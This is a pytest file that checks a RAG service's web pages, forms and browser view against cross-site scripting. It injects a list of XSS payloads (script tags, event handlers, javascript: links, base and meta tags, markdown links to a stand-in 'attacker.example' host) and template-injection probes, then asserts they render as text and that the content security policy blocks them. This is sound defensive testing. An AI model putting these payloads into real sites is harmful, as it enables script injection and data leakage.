"""Documents, questions and feedback that try to be more than text: indexed for real, asked about, and looked at on every page."""

import json
import socket
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Browser, expect

from rag_service.catalog import Catalog
from rag_service.settings import load_settings
from rag_service.wiring.releases import make_release
from tests.api.conftest import Client, desk_on, running
from tests.web.browser import window
from tests.web.html import check_harmless

ELSEWHERE = "http://attacker.example"
SCRIPTS = (
    "<script>alert('script')</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    "<img src=x onerror=alert('onerror')>",
    f"<img src={ELSEWHERE}/pixel.png>",
    "<svg/onload=alert('svg')>",
    '"><iframe srcdoc="<script>parent.alert(\'frame\')</script>"></iframe>',
    "'\" autofocus onfocus=alert('focus') x='",
    "</textarea></title></style></pre><script>alert('escape')</script>",
    "<a href=\"javascript:alert('href')\">click</a>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css><style>@import '{ELSEWHERE}/y.css'</style>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'><base href={ELSEWHERE}>",
    f"<form action={ELSEWHERE}><button>Send</button></form>",
)
MARKDOWN = (
    f"![pixel]({ELSEWHERE}/image.png?secret=1)",
    "[click](javascript:alert('markdown'))",
    "<javascript:alert('autolink')>",
    f"[reference][r]\n\n[r]: {ELSEWHERE}/reference",
    "{{ 7919 * 7907 }} {% raw %} {{passages}} ${7919 * 7907} #{7919 * 7907}",
)
QUESTION = "What does the parrot say about <script>alert('question')</script><img src=x onerror=alert('asked')>?"


@dataclass(frozen=True)
class Zoo:
    client: Client
    paths: tuple[str, ...]
    """Every page that shows something of the documents, the question or the feedback."""


@pytest.fixture(scope="module")
def zoo(tmp_path_factory: pytest.TempPathFactory, encoder_folder: Path, build: Any) -> Iterator[Zoo]:
    source, root = tmp_path_factory.mktemp("zoo"), tmp_path_factory.mktemp("indexes")
    (root / "encoders").symlink_to(encoder_folder.parent)
    everything = "\n\n".join([*SCRIPTS, *MARKDOWN])
    (source / "parrot <img src=x onerror=alert(1)>.md").write_text(
        f"# Parrot {SCRIPTS[0]}\n\n## {SCRIPTS[2]} [x](javascript:alert(2))\n\n"
        f"The parrot says {SCRIPTS[0]} {SCRIPTS[2]} {MARKDOWN[0]} every day.\n"
    )
    (source / "all.txt").write_text(f"What the parrot says when nobody listens:\n\n{everything}\n")
    (source / "page.html").write_text(
        f"<title>Parrot {SCRIPTS[7]}</title><h1>The parrot's page</h1><p>The parrot says &lt;script&gt;alert(3)&lt;/script&gt;.</p>"
    )
    rows = [{"id": f"row{number}\"'><b>", "title": f"Parrot {script}", "text": f"The parrot says {script} at {number}.",
             "x-note": script, "url": "javascript:alert('url')", "source": f"javascript:alert('source{number}')"}
            for number, script in enumerate(SCRIPTS)]  # fmt: skip
    (source / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    (source / "<script>alert('skipped')<").mkdir()
    (source / "<script>alert('skipped')<" / "script>.xyz").write_bytes(b"\0\1")
    version = build(root, source, name="zoo").manifest.version
    catalog = Catalog(root)
    catalog.activate("zoo", make_release(load_settings({}, indexes=root), catalog, "zoo", version))
    with running(desk_on(root, "zoo"), grace_s=2.0) as client:
        replies = [
            client.ask({"question": question, "top_k": 50, "min_confidence": 0}).json for question in (QUESTION, f"What? {everything}")
        ]
        assert [reply["status"] for reply in replies] == ["answered", "answered"]
        first, second = (reply["answer_id"] for reply in replies)
        said = {"rating": "down", "comment": everything, "expected": SCRIPTS[0]}
        assert client.post(f"/traces/{first}/feedback", said).status == 201
        chunks = {hit["url"]: None for reply in replies for hit in reply["hits"]}
        paths = [
            "/traces", f"/traces/{first}", f"/traces/{second}", f"/traces/compare?a={first}&b={second}", "/indexes",
            f"/indexes/versions/{version}", f"/releases/{replies[0]['trace']['release']['id']}", *(f"{url}&quote=0-20" for url in chunks),
            "/traces?text=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "/traces?key_id=%22%20autofocus%20onfocus=alert(1)%20x=%22",
            "/?q=%3C/textarea%3E%3Cscript%3Ealert(1)%3C/script%3E",
            "/%3Cscript%3Ealert(1)%3C/script%3E", "/releases/%3Cscript%3E", "/traces/javascript:alert(1)",
        ]  # fmt: skip
        yield Zoo(client, tuple(paths))


def test_every_page_shows_hostile_text_as_text(zoo: Zoo) -> None:
    for path in zoo.paths:
        reply = zoo.client.get(path, accept="text/html")
        assert reply.headers["content-type"] == "text/html; charset=utf-8", path
        assert "script-src 'self'; style-src 'self'; img-src 'self' data:" in reply.headers["content-security-policy"]
        page = reply.body.decode()
        check_harmless(page)
        assert "62615533" not in page, "no template in a text was filled in"


def test_pages_that_a_form_leads_to_show_it_as_text_too(zoo: Zoo) -> None:
    form = {"content-type": "application/x-www-form-urlencoded", "accept": "text/html"}
    fields = urlencode({"question": QUESTION, "top_k": 50, "min_confidence": 0, "fresh": "yes"}).encode()
    wrong = urlencode({"question": QUESTION, "release": SCRIPTS[6], "top_k": SCRIPTS[0]}).encode()
    for path, body, status in (("/", fields, 200), ("/", wrong, 422), (f"{zoo.paths[1]}/replay", b"", 200)):
        reply = zoo.client.send("POST", path, body, form)
        assert reply.status == status
        check_harmless(reply.body.decode())


def test_in_a_browser_nothing_of_it_runs_and_nothing_is_loaded_from_elsewhere(zoo: Zoo, browser: Browser) -> None:
    with window(browser, f"http://127.0.0.1:{zoo.client.port}") as watched:
        watched.expected_statuses.update({404, 422})
        page = watched.context.new_page()
        for path in zoo.paths:
            page.goto(watched.base_url + path)
            watched.check()
        page.goto(watched.base_url + "/")
        page.click("summary")
        page.fill("#top_k", "50")
        page.fill("#min_confidence", "0")
        for question in (QUESTION, "What does the parrot say every day?"):
            page.fill("#question", question)
            page.press("#question", "Enter")
            expect(page.locator("#status")).to_have_text("answered")
            expect(page.locator("#answer")).to_have_attribute("aria-busy", "false")
            expect(page.locator("#answer")).to_contain_text("<")
            assert page.locator("#reply :is(img, script, iframe, style, base, meta)").count() == 0
            assert page.eval_on_selector_all("#reply a", "(all) => all.every((a) => a.protocol.startsWith('http'))")
        assert any("<script>" in text for text in page.locator("#sources a").all_inner_texts())
        page.wait_for_timeout(200)
        watched.check()


def test_what_the_policy_would_do_if_something_got_through(zoo: Zoo, browser: Browser) -> None:
    """Scripts, styles, images, frames and calls that are put into a page on purpose are blocked one by one."""
    with socket.create_server(("127.0.0.1", 0)) as elsewhere, window(browser, f"http://127.0.0.1:{zoo.client.port}") as watched:
        elsewhere.setblocking(False)
        page = watched.open("/traces")
        page.evaluate(
            """(elsewhere) => {
              const add = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
              add("script", { textContent: "alert('inline')" });
              add("script", { src: elsewhere + "/x.js" });
              add("style", { textContent: "body { display: none }" });
              add("img", { src: elsewhere + "/pixel.png" });
              add("iframe", { src: elsewhere });
              document.body.setAttribute("style", "display: none");
              fetch(elsewhere).catch(() => {});
            }""",
            f"http://127.0.0.1:{elsewhere.getsockname()[1]}",
        )
        page.wait_for_timeout(300)
        blocked = " ".join(watched.problems)
        for directive in ("script-src-elem", "style-src-elem", "style-src-attr", "img-src", "frame-src", "connect-src"):
            assert f"policy: {directive}" in blocked
        assert page.evaluate("window.ran") == []
        assert page.evaluate("getComputedStyle(document.body).display") == "block"
        assert heard(elsewhere) == b""


def heard(listener: socket.socket) -> bytes:
    """What was sent to it. A browser may open a connection before it asks the policy whether it may use it."""
    said = b""
    with suppress(BlockingIOError):
        while True:
            connection, _ = listener.accept()
            with connection, suppress(TimeoutError):
                connection.settimeout(0.2)
                said += connection.recv(1000)
    return said
